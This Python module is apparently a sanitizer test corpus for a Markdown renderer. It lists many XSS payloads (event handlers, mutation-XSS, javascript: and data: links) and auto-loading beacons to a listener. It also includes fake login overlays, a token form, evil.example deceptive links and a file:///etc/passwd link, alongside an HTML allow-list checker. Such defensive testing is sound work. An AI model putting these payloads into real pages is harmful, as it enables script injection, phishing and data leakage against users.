"""What a model may say to do harm: a corpus as data, and a strict reader of HTML that names whatever should not be there.

In every text ``URL`` stands for an address of the listener (with the item's name) and ``JS`` for a script that raises the page's counter.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

COUNTER = "hfmagicOwned"
JS = f"{COUNTER}++"  # the page sets it to 0 before

CORPUS: dict[str, str] = {
    # script in HTML
    "img-onerror": '<img src=x onerror="JS">',
    "script": "<script>JS</script>",
    "script-src": '<script src="URL"></script>',
    "svg-onload": '<svg onload="JS"></svg>',
    "svg-nested-onload": '<svg><svg onload="JS"></svg></svg>',
    "svg-script": "<svg><script>JS</script></svg>",
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:JS"/><text y="20">x</text></a></svg>',
    "svg-foreign": '<svg><foreignObject><iframe srcdoc="<script>parent.JS</script>"></iframe></foreignObject></svg>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:parent.JS"></iframe>',
    "details-toggle": '<details open ontoggle="JS">x</details>',
    "animation": '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="JS">x</b>',
    "transition": '<b style="transition:color 1s" ontransitionrun="JS" tabindex=1 autofocus onfocus="JS">x</b>',
    "autofocus": '<input autofocus onfocus="JS">',
    "marquee": '<marquee onstart="JS">x</marquee>',
    "body-onload": '<body onload="JS">',
    "video-error": '<video><source onerror="JS"></video>',
    "audio-src": '<audio src="URL" autoplay onerror="JS"></audio>',
    "popover": '<button popovertarget=p autofocus>x</button><div id=p popover onbeforetoggle="JS">y</div>',
    "dialog": '<dialog open oncancel="JS" style="position:fixed;inset:0;z-index:99999">Log in again</dialog>',
    "mathml": '<math><mtext><img src=x onerror="JS"></mtext></math>',
    "mathml-href": '<math><mtext href="javascript:JS">x</mtext></math>',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "mutation-mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">',
    "mutation-svg-style": '<svg></p><style><a id="</style><img src=x onerror=JS>">',
    "mutation-select": '<select><template><style><!--</style><a rel="--></style></select><img src=x onerror=JS>">',
    "template": '<template shadowrootmode="open"><img src=x onerror="JS"></template>',
    "noscript": "<noscript><img src=URL></noscript>",
    "textarea-out": '<textarea></textarea><img src=x onerror="JS">',
    "title-out": "<title></title><script>JS</script>",
    "comment-out": "<!-- --!><img src=x onerror=JS> -->",
    "comment-short": "<!--><img src=x onerror=JS>-->",
    "cdata": "<![CDATA[<img src=x onerror=JS>]]>",
    "processing": "<?xml-stylesheet href='URL'?><img src=x onerror=JS>",
    "plaintext": "<plaintext><img src=x onerror=JS>",
    "xmp": "<xmp></xmp><img src=x onerror=JS>",
    "attribute-out": '"><img src=x onerror="JS">',
    "quote-out": "'\"></a></p></div></pre></code><img src=x onerror=JS>",
    "slashes": "<img/src=x/onerror=JS>",
    "upper-case": '<ImG SrC=x OnErRoR="JS">',
    "nul-in-tag": "<im\0g src=x onerror=JS><scr\0ipt>JS</scr\0ipt>",
    "unclosed": "<img src=x onerror=JS //",
    "half-tag": "<svg/onload=JS<!--",
    "entities": "&lt;img src=x onerror=JS&gt; &#60;script&#62;JS&#60;/script&#62;",
    "double-entities": "&amp;lt;img src=x onerror=JS&amp;gt;",
    "utf7": "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "full-width": "＜img src=x onerror=JS＞",
    "import-map": '<script type="module">import "URL"</script>',
    "custom-element": '<jp-toolbar onclick="JS"><slot></slot></jp-toolbar>',
    # places in Markdown where HTML may slip through
    "html-in-heading": "# <img src=x onerror=JS>\n\n<img src=x onerror=JS>\n===",
    "html-in-table": "| a | <img src=x onerror=JS> |\n|---|---|\n| <script>JS</script> | `<img src=URL>` |",
    "html-in-alignment": '| a |\n|:-"><img src=x onerror=JS>-:|\n| b |',
    "html-in-list": "- <img src=x onerror=JS>\n  - <img src=x onerror=JS>\n1. > <img src=x onerror=JS>",
    "html-in-quote": "> <img src=x onerror=JS>\n> > <script>JS</script>",
    "html-in-link-text": "[<img src=x onerror=JS>](https://example.com/)",
    "html-in-link-title": "[x](https://example.com/ '\"><img src=x onerror=JS>')",
    "html-in-link-address": '[x](<https://example.com/"><img src=x onerror=JS>>)',
    "html-in-image-alt": "![<img src=x onerror=JS>](URL '\"><img src=x onerror=JS>')",
    "html-in-code": "`<img src=x onerror=JS>` ``</code><img src=x onerror=JS>``",
    "html-in-fence": "```html\n<img src=x onerror=JS></code></pre><script>JS</script>\n```",
    "html-in-fence-info": '```"><img src=x onerror=JS> onload=JS\nx\n```',
    "html-in-python": '```python\nx = "</span></code></pre><img src=x onerror=JS>"  # <script>JS</script>\n```',
    "html-in-indent": "    </code></pre><img src=x onerror=JS>",
    "html-in-strike": "~~<img src=x onerror=JS>~~ **<script>JS</script>** _<svg onload=JS>_",
    "html-block": "<div>\n\n<img src=x onerror=JS>\n\n</div>",
    "html-in-reference": '[x]\n\n[x]: https://example.com/ "\\"><img src=x onerror=JS>"',
    "open-fence": "```\n<img src=x onerror=JS>",
    "backslashes": "\\<img src=x onerror=JS\\> <img src=x onerror=\\JS>",
    # script in links
    "link-html": '<a href="javascript:JS">click</a>',
    "link-markdown": "[click](javascript:JS)",
    "link-angle": "[click](<javascript:JS>)",
    "link-entity": "[click](&#106;avascript:JS) [click](javascript&colon;JS)",
    "link-tab": "[click](java&Tab;script:JS) [click](&#x01;javascript:JS)",
    "link-newline": "[click](java&NewLine;script:JS)",
    "link-case": "[click](JaVaScRiPt:JS)",
    "link-vbscript": "[click](vbscript:JS)",
    "link-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-data-svg": "[click](data:image/svg+xml,<svg onload=JS>)",
    "link-blob": "[click](blob:URL) [click](filesystem:URL) [click](view-source:URL) [click](file:///etc/passwd)",
    "link-autolink": "<javascript:JS> <data:text/html,x> <vbscript:x>",
    "link-reference": "[click][r] [r]\n\n[r]: javascript:JS",
    "link-nested": "[a [click](javascript:JS) b](javascript:JS) [![x](javascript:JS)](javascript:JS)",
    "link-userinfo": "[huggingface.co](https://huggingface.co@evil.example/) <https://huggingface.co@evil.example/>",
    "link-deceiving": "[https://huggingface.co/login](URL)",
    "link-protocol-relative": "[click](//evil.example/x) [click](\\\\evil.example) [click](/\\evil.example)",
    "link-server": "[click](/lab/tree) [click](../api/shutdown) [click](?reset) [click](http:lab)",
    "link-command": "[click](command:notebook.execute) [click](vscode:x) [click](ms-word:x) [click](intent:x)",
    "link-title-attribute": '[x](https://example.com/ "t" onclick=JS)',
    "form-action": '<form action="javascript:JS"><button>Log in</button></form>',
    # resources that load by themselves
    "image": "![pixel](URL)",
    "image-reference": "![pixel][i] ![i]\n\n[i]: URL",
    "image-in-link": "[![pixel](URL)](https://example.com/)",
    "image-entity": "&#33;[pixel](URL)",
    "image-data": "![d](data:image/svg+xml,<svg onload=JS>)",
    "image-html": '<img src="URL">',
    "image-srcset": '<img srcset="URL 1x, URL 2x"><picture><source srcset="URL"><img></picture>',
    "image-input": '<input type=image src="URL">',
    "css-url": '<div style="background:url(URL)">x</div>',
    "css-import": "<style>@import url(URL); body{background:url(URL)}</style>",
    "css-font": '<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}input[value^="a"]{background:url(URL)}</style>',
    "css-in-table": "| a |\n|:-;background:url(URL)|\n| b |",
    "link-stylesheet": '<link rel=stylesheet href="URL"><link rel=prefetch href="URL"><link rel=preconnect href="URL">',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=URL">',
    "base": '<base href="URL"><a href="x">x</a>',
    "video": '<video poster="URL" src="URL" autoplay><track src="URL" default></video>',
    "iframe": '<iframe src="URL"></iframe><frameset><frame src="URL"></frameset>',
    "object": '<object data="URL"></object><embed src="URL"><applet code="URL"></applet>',
    "portal": '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
    "svg-image": '<svg><image href="URL"/><use href="URL#x"/><feImage href="URL"/></svg>',
    "body-background": '<body background="URL"><table background="URL"><tr><td background="URL">x</td></tr></table>',
    "ping": '<a href="https://example.com/" ping="URL">x</a>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["URL"]}]}</script>',
    # what a front end draws by itself
    "mermaid-label": "```mermaid\ngraph TD\nA[\"<img src='URL' onerror='JS'>\"]\n```",
    "mermaid-click": '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:JS"\n```',
    "mermaid-image": '```mermaid\nflowchart TD\nA@{ img: "URL", label: "x" }\n```',
    "mermaid-html": '<pre class="mermaid">graph TD\nA["<img src=URL>"]</pre><div class="mermaid">graph TD</div>',
    "vega": '```vega-lite\n{"data":{"url":"URL"},"mark":"point"}\n```',
    "geojson": '```geojson\n{"type":"FeatureCollection"}\n```',
    "tex-href": r"$\href{javascript:JS}{x}$ $$\href{URL}{x}$$ \(\href{URL}{x}\)",
    "tex-style": r"$\require{html}\style{background:url(URL)}{x}$ $\bbox[background:url(URL)]{x}$",
    "tex-class": r"$\class{jp-Dialog}{x}\cssId{main}{x}\data{a=b}{x}$ $\unicode[url(URL)]{65}$",
    "tex-image": r"$\includegraphics{URL}$ $\input{URL}$",
    "tex-define": r"$\def\a{\a\a}\a$ $\gdef\x{1}\newcommand{\y}{2}\let\z\x$ $\csname href\endcsname$",
    "tex-environment": "\\begin{equation}\\href{javascript:JS}{x}\\end{equation} \\eqref{x} \\ref{y}",
    "tex-escaped": r"\\(\href{javascript:JS}{x}\\) \\[\href{URL}{x}\\] \$\href{javascript:JS}{x}\$",
    "tex-split": r"$a{b$ \href{javascript:JS}{x} $c}d$ `$`\href{URL}{y}`$`",
    "tex-html": "$<img src=x onerror=JS>$ $$\n<script>JS</script>\n$$",
    "tex-far": r"$\hspace{-99em}\raise99em\hbox{Log in}$ $\rule{99em}{99em}$ $$a\\[-99em]b$$ $" + r"\!" * 40 + "x$",
    "tex-deep": "$" + "{" * 40 + "x" + "}" * 40 + "$",
    # what people are made to believe
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:white">Log in again</div>',
    "password-form": '<form action="URL" method=post>Token: <input type=password name=t><button>Log in</button></form>',
    "fake-widget": '<div class="jp-Dialog"><div class="jp-Dialog-content">Kernel died</div></div>',
    "button-command": '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">x</button>',
    "id-clobber": '<a id="jupyter-config-data">x</a><form name="body"><input name="children"></form>',
    "content-editable": '<div contenteditable onblur="JS" autofocus>x</div>',
    "bidi": "The file is \u202egnp.exe\u202c, really \u2066\u202e",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;javascript:JS\x1b\\click\x1b]8;;\x1b\\ \x9b31mred",
    "carriage": "all is well\rYOU ARE LOGGED OUT\b\b\b\b",
    "nul": "a\0b [x](java\0script:JS) <\0img src=x onerror=JS>",
    "surrogate": "a\ud800b \udfff <img src=x onerror=JS>",
    "bare-address": "see URL or www.example.com",
    "many-things": "# <b>\n> - [x](javascript:JS)\n>   ```html\n>   <img src=URL>\n>   ```\n\n| ![p](URL) |\n|-|\n| $\\href{URL}{x}$ |",
}

TAG_NAMES = "p br hr h1 h2 h3 h4 h5 h6 strong em s code pre blockquote ul ol li table thead tbody tr th td a span div"
TAGS = set(TAG_NAMES.split())
VOID = {"br", "hr"}
CLASSES = re.compile(r"hfm-(img|url|math|text)|highlight|language-[a-z+#0-9-]+|[a-z]{1,3}[0-9]?|l-Scalar(-Plain)?")
HREF = re.compile(r"https?://[^/?#@\\\s]+([/?#]|$)|mailto:[^\s]", re.IGNORECASE)


def with_targets(text: str, address: str) -> str:
    """Put the listener's address and the script into an item."""
    return text.replace("URL", address).replace("JS", JS)


def items(base: str) -> dict[str, str]:
    """Return the corpus, armed: every item asks `base` for an address of its own."""
    return {name: with_targets(text, f"{base}/{name}") for name, text in CORPUS.items()}


def violations(html: str) -> list[str]:
    """Name everything in `html` that safe Markdown has no use for; an empty list means harmless."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found + [f"<{tag}> is not closed" for tag in reader.open]


class _Reader(HTMLParser):
    """Reads HTML and notes what is not allowed, independently of how it was made."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        if tag == "a":
            given = dict(attrs)
            if "href" in given and (given.get("rel") != "noopener noreferrer nofollow" or given.get("target") != "_blank"):
                self.found.append(f"a link without rel or target: {given}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> closes nothing")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"processing instruction {data!r}")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        fine = {
            ("a", "href"): HREF.match(value),
            ("a", "title"): True,
            ("a", "rel"): True,
            ("a", "target"): value == "_blank",
            ("ol", "start"): value.isdigit(),
            ("th", "style"): re.fullmatch(r"text-align:\s?(left|right|center);?", value),
            ("td", "style"): re.fullmatch(r"text-align:\s?(left|right|center);?", value),
        }.get((tag, name), name == "class" and tag in {"span", "pre", "code", "div"} and all(CLASSES.fullmatch(c) for c in value.split()))
        if not fine:
            self.found.append(f"<{tag} {name}={value!r}>")
